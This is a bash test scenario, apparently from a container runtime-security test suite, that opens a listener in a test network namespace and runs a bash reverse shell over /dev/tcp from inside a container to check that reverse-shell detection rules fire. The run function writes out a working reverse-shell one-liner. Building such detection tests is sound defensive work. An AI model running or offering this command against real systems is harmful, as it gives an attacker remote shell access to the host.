#!/usr/bin/env bash
# Reverse shell from a container: bash connects to 198.51.100.2:4444 (a listener in a test network
# namespace) and duplicates the socket onto stdin, stdout and stderr; the listener sends `id` and `exit`.
# container: api python:3.11-slim
# rules: Redirect STDOUT/STDIN to Network Connection in Container; Reverse shell
[[ $0 == */* ]] && D=${0%/*} || D=.
. "$D/lib.sh"
setup() {
  container_setup api
  netns_setup
  ip netns exec "$NETNS" "$PY" -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.51.100.2", 4444)); s.listen(1); s.settimeout(20)
c, _ = s.accept(); c.settimeout(5)
c.sendall(b"id\nexit\n")
out = b""
try:
    while True:
        d = c.recv(4096)
        if not d: break
        out += d
except OSError:
    pass
open("'"$SAMPLE_TMP"'/revshell.out", "wb").write(out)
' >/dev/null 2>&1 &
  wait_listen "$NETNS" 4444
}
run() { in_container api bash -c "bash --norc --noprofile -i >& /dev/tcp/$TEST_IP/4444 0>&1"; }
cleanup() { netns_cleanup; container_cleanup api; rm -f "$SAMPLE_TMP/revshell.out"; }
scenario_main "$@"
